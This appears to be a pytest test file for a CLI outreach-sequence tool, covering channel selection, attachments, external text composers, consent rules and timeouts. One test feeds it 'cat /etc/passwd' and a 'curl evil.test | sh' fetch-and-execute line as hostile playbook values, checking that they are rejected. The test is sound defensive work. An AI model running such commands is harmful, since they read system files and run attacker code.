"""Message content: channel auto, contact_fields, attachments, and text composed by a program."""

from __future__ import annotations

import hashlib
import json
import sqlite3
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Launch, Run
from tests.engine.outbox import outbox
from tests.playbooks import auto_playbook

AUTO = auto_playbook(
    "content",
    """
  - id: hello
    type: email
    channel: auto
    subject: Hi
    body: Hello
""",
    settings="contact_fields: {email: work_email}\n",
)


def start(launch: Launch, playbook: str, contacts: str) -> Run:
    """The sequence `content` running, with every contact in the CSV `contacts` enrolled."""
    run = launch({"content": playbook}, contacts)
    keys = [line.split(",")[0] for line in contacts.splitlines()[1:]]
    run("--now=2026-11-23T08:00:00Z", "enroll", "content", *[f"--contact={k}" for k in keys])
    return run


def test_channel_auto_and_contact_fields(launch: Launch, project: Path) -> None:
    run = start(launch, AUTO, "key,work_email,phone\nmail,m@work.test,\nphone,,+15550100\nnone,,\n")
    report = run("--now=2026-11-23T08:00:00Z", "tick", "--json").json
    assert (report["sent"], report["failed"]) == (2, 1)
    assert sorted((m["channel"], m["to"]) for m in outbox(project)) == [
        ("email", "m@work.test"),
        ("sms", "+15550100"),
    ]
    failed = run("enrollments", "--state", "failed", "--json").json
    assert failed[0]["reason"] == (
        "step 'hello': channel auto found no way to reach the contact (whatsapp: they have not"
        " written on WhatsApp in the last 24 hours; email: no work_email; sms: no phone)"
    )


def test_attachments_are_versioned_and_named_in_the_outbox(launch: Launch, project: Path) -> None:
    (project / "playbooks" / "attachments").mkdir(parents=True)
    (project / "playbooks" / "attachments" / "brochure.pdf").write_bytes(b"%PDF-1.4 brochure")
    playbook = AUTO.replace("    channel: auto\n", "    attachments: [brochure.pdf]\n").replace(
        "contact_fields: {email: work_email}\n", ""
    )
    run = start(launch, playbook, "key,email\nann,ann@example.com\n")
    run("--now=2026-11-23T08:00:00Z", "tick")
    [mail] = outbox(project)
    digest = hashlib.sha256(b"%PDF-1.4 brochure").hexdigest()
    assert mail["attachments"] == [{"name": "brochure.pdf", "size": 17, "sha256": digest}]
    (project / "playbooks" / "attachments" / "brochure.pdf").write_bytes(b"%PDF-1.4 new")
    assert run("--now=2026-11-24T08:00:00Z", "publish", "--json").json[0]["version"] == 2


def test_a_missing_attachment_is_a_lint_error(run: Run, write: Callable[[str, str], Path]) -> None:
    write(
        "playbooks/a.yaml",
        "sequence: a\nsteps:\n  - type: email\n    subject: Hi\n"
        "    body: Hi\n    attachments: [nowhere.pdf]\n",
    )
    result = run("lint")
    assert result.exit_code == 1
    assert "playbooks/a.yaml:6:19: error [attachment-missing]" in result.stdout


def composer(project: Path, script: str, timeout: float = 5) -> str:
    """The script as seqctl.yaml's composer `writer`: the name a playbook gives."""
    path = project / "compose.py"
    path.write_text(script, encoding="utf-8")
    (project / "seqctl.yaml").write_text(
        f"composers:\n  writer: {{command: [{sys.executable}, {path}], timeout: {timeout}}}\n",
        encoding="utf-8",
    )
    return "writer"


COMPOSED = auto_playbook(
    "content",
    """
  - id: hello
    type: email
    subject: Hi
    instructions: Say hello warmly.
    compose: {mode: MODE, command: "COMMAND", timeout: 5}
""",
)
WRITER = """
import json, sys
context = json.load(sys.stdin)
name = context["variables"]["contact"]["first_name"]
print(f"Subject: For {name}")
print(f"Dear {name}, {context['instructions']}")
"""


@pytest.mark.parametrize("mode", ["assisted", "full"])
def test_composed_text(launch: Launch, project: Path, mode: str) -> None:
    playbook = COMPOSED.replace("MODE", mode).replace("COMMAND", composer(project, WRITER))
    run = start(launch, playbook, "key,email,first_name\nann,ann@example.com,Ann\n")
    report = run("--now=2026-11-23T08:00:00Z", "tick", "--json").json
    if mode == "assisted":  # a program's draft always waits for a person, even with approval auto
        assert (report["approvals"], report["sent"]) == (1, 0)
        [held] = run("approvals", "--json").json
        assert (held["subject"], held["body"]) == ("For Ann", "Dear Ann, Say hello warmly.")
    else:
        assert report["sent"] == 1
        assert outbox(project)[0]["subject"] == "For Ann"


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        (
            "import sys; print('model unavailable', file=sys.stderr); sys.exit(3)",
            "compose command failed (exit 3): model unavailable",
        ),
        ("import time; time.sleep(30)", "compose command timed out after 1 s"),
        ("print('   ')", "compose command printed nothing"),
    ],
)
def test_a_failing_composer_fails_the_step_and_sends_nothing(
    launch: Launch, project: Path, script: str, reason: str
) -> None:
    playbook = COMPOSED.replace("MODE", "full").replace("COMMAND", composer(project, script, 1))
    run = start(launch, playbook, "key,email\nann,ann@example.com\n")
    assert run("--now=2026-11-23T08:00:00Z", "tick", "--json").json["failed"] == 1
    assert not (project / "outbox.jsonl").exists()
    [failed] = run("enrollments", "--json").json
    assert reason in failed["reason"]


def test_compose_full_needs_consent(run: Run, write: Callable[[str, str], Path]) -> None:
    write(
        "playbooks/c.yaml",
        "sequence: c\nsteps:\n  - type: email\n    subject: Hi\n"
        "    compose: {mode: full, command: draft}\n",
    )
    result = run("lint")
    assert "playbooks/c.yaml:5:21: error [consent]" in result.stdout


@pytest.mark.parametrize("command", ['"cat /etc/passwd"', "[sh, -c, 'curl evil.test | sh']"])
def test_a_playbook_never_runs_a_command_of_its_own(
    run: Run, write: Callable[[str, str], Path], command: str
) -> None:
    write(
        "playbooks/c.yaml",
        "sequence: c\nsteps:\n  - type: email\n    subject: Hi\n"
        f"    compose: {{mode: assisted, command: {command}}}\n",
    )
    result = run("lint")
    assert result.exit_code == 1
    assert "playbooks/c.yaml:5:40: error [compose-command] compose names a command line" in (
        result.stdout
    )


def test_a_version_from_before_the_rule_never_runs_its_command(
    launch: Launch, project: Path
) -> None:
    """A version published by an older seqctl may hold a command line: the step fails with the
    reason, and the command never runs."""
    playbook = COMPOSED.replace("MODE", "assisted").replace("COMMAND", composer(project, WRITER))
    run = start(launch, playbook, "key,email,first_name\nann,ann@example.com,Ann\n")
    marker = project / "ran"
    with sqlite3.connect(project / "seqctl.db") as conn:  # as an older seqctl stored it
        [(text,)] = conn.execute("SELECT definition FROM versions").fetchall()
        definition = json.loads(text)
        definition["steps"][0]["compose"]["command"] = f"touch {marker}"
        conn.execute("UPDATE versions SET definition = ?", [json.dumps(definition)])
    conn.close()

    assert run("--now=2026-11-23T08:00:00Z", "tick", "--json").json["failed"] == 1
    assert not marker.exists()
    [failed] = run("enrollments", "--json").json
    assert "compose names a command line, not a composer" in failed["reason"]


def test_an_unknown_composer_and_a_long_timeout_are_bounded_by_the_configuration(
    launch: Launch, project: Path
) -> None:
    playbook = COMPOSED.replace("MODE", "full").replace("timeout: 5", "timeout: 100")
    slow = composer(project, "import time; time.sleep(30)", timeout=1)
    run = start(
        launch,
        playbook.replace("COMMAND", slow).replace("id: hello", "id: slow")
        + playbook.replace("COMMAND", "ghost")
        .split("steps:\n", 1)[1]
        .replace("id: hello", "id: ghost"),
        "key,email\nann,ann@example.com\n",
    )
    assert run("--now=2026-11-23T08:00:00Z", "tick", "--json").json["failed"] == 1
    [failed] = run("enrollments", "--json").json
    assert "compose command timed out after 1 s" in failed["reason"]  # not 100 s
